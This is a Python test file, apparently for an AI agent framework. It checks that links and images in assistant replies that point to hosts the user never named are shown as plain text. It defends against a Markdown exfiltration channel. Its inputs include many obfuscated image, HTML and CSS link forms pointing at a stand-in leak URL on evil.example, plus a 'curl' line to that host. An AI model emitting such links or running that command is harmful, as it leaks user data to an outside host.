"""Replies hold nothing that loads or leads to a host that nobody named: it is shown as text."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from phronesis_orchestrator.agents.presentation import disarm_links
from phronesis_orchestrator.turns.turn import Completed
from tests.unit.orchestrator.fakes import ScriptedReasoner, Stage, claim, direct, reply

EVIL = "https://evil.example/leak?code=4711"
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable("text_join")
_BARE = re.compile(r"(?:https?://|www\.)\S*evil", re.I)
"""What displays that turn addresses in a text into links would take for one."""


def good(host: str) -> bool:
    return host == "example.org"


def disarmed(text: str) -> str:
    return disarm_links(text, good)


def targets(text: str) -> list[str]:
    """Everywhere that the Markdown would load from or lead to."""
    found, left = [], list(MARKDOWN.parse(text))
    while left:
        token = left.pop()
        left += token.children or []
        found += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
        if token.type.startswith("html"):
            found += [tag for tag in re.findall(r"<[^<>]*>", unescape(token.content)) if "evil" in tag]
        if token.type == "text":
            found += _BARE.findall(token.content)
    return found


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"See ![a chart]({EVIL}) here", f"See a chart (`{EVIL}`) here"),
        (f"See [the shop]({EVIL}).", f"See the shop (`{EVIL}`)."),
        (f'[the shop]( {EVIL} "Buy now" )', f"the shop (`{EVIL}`)"),
        (f"[the shop](<{EVIL}>)", f"the shop (`{EVIL}`)"),
        (f"Go to {EVIL}.", f"Go to `{EVIL}`."),
        (f"<{EVIL}>", f"`{EVIL}`"),
        ("www.evil.example/x", "`www.evil.example/x`"),
        ("[mail](mailto:eve@evil.example?body=4711)", "mail (mailto:eve@evil.example?body=4711)"),
    ],
)
def test_a_link_that_nobody_named_is_shown_as_text_with_its_whole_address(text: str, shown: str) -> None:
    assert disarmed(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See [the page](https://example.org/a?b=c) and ![it](https://EXAMPLE.org/x.png).",
        "Read https://example.org/a, or <https://example.org>.",
        "[below](#prices), [other](other.md), ![picture](/api/v1/media/1)",
        "[shop]: https://example.org/a",
        "It costs 4:3, at 07:30; and/or see [1] and (2). `a[0](1)` C:\\x",
        "    x = items[0](https)\n",
        f"Run this:\n\n```\ncurl {EVIL}\n```\n\nor `curl {EVIL}`.",
        "<p>a</p><p>b &amp; c</p>",
        "",
    ],
)
def test_what_was_named_what_is_beside_the_reply_and_code_stay_as_they_are(text: str) -> None:
    assert disarmed(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"[a ![b]({EVIL}) c](https://example.org)",
        f"[![b](https://example.org/x.png)]({EVIL})",
        f"[a [b] c]({EVIL})",
        f"[a](\n{EVIL})",
        f"[a]({EVIL}(x))",
        f"[a]({EVIL} 'x')",
        "[a](https\\://evil.example/x)",
        "[a](https&#58;//evil.example/x)",
        "[a](&#104;ttps://evil.example/x)",
        "[a](//evil.example/x)",
        "![a](\\\\\\\\evil.example/x)",
        "![a](HTTPS://EVIL.EXAMPLE/x)",
        "![a](https://example.org@evil.example/x)",
        "![a](https://example.org\\@evil.example/x)",
        f"[a][1]\n\n[1]: {EVIL}",
        f"[a]\n\n[a]:\n  <{EVIL}> 'title'",
        f"> ![a][b]\n>\n> [b]: {EVIL}",
        f"- [a]: {EVIL}\n- ![a]",
        f"<{EVIL}>",
        f"{EVIL}",
        "www.evil.example",
        f"*{EVIL}*",
        f"<img src={EVIL}>",
        f'<a href="{EVIL}">x</a>',
        f"<IMG\nSRC='{EVIL}'>",
        "<img src=&#104;ttps://evil.example/x>",
        f"<div style='background:url({EVIL})'>x</div>",
        f"<p>a</p> ![x]({EVIL})",
        f"Hello <p>a</p> {EVIL}",
        f"`code` ![x]({EVIL}) `code`",
        f"```\n![x]({EVIL})\n```",
        f"`` ` ![x]({EVIL}) ``",
    ],
)
def test_no_way_of_writing_a_link_leaves_one_that_a_display_would_follow(text: str) -> None:
    assert [target for target in targets(disarmed(text)) if "example.org" not in target or "evil" in target] == []


PIECES = st.sampled_from(
    [
        *("[", "]", "(", ")", "![", "](", "]:", "<", ">", "`", "``", "\n", "\n\n", " ", "\\", '"', "'", "a", "[a]", "> ", "- "),
        *("https://evil.example/x", "//evil.example", "https\\://evil.example/", "&#104;ttps://evil.example", "<img src=", "|"),
    ]
)


@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_mixture_of_marks_leaves_a_picture_or_a_hidden_link_to_a_host_that_nobody_named(text: str) -> None:
    loaded, left = [], list(MARKDOWN.parse(disarmed(text)))
    while left:
        token = left.pop()
        left += token.children or []
        bare = token.type == "link_open" and token.info == "auto"
        loaded += [str(value) for name, value in token.attrs.items() if name in ("href", "src") and not bare]
    assert [target for target in loaded if "evil" in target] == []


@given(st.text(max_size=80))
def test_disarming_any_text_never_fails_and_changes_nothing_the_second_time(text: str) -> None:
    once = disarmed(text)
    assert disarmed(once) == once


async def test_the_reply_of_a_turn_leads_to_hosts_that_its_user_named_and_to_no_others() -> None:
    text = f"![a]({EVIL}) and [b](https://shop.example/x)"
    stage = Stage(ScriptedReasoner(routes=[direct()], composes=[reply(text)]))
    end = await stage.run(claim("What does shop.example say?"))
    assert isinstance(end, Completed)
    assert end.reply.user_response == f"a (`{EVIL}`) and [b](https://shop.example/x)"
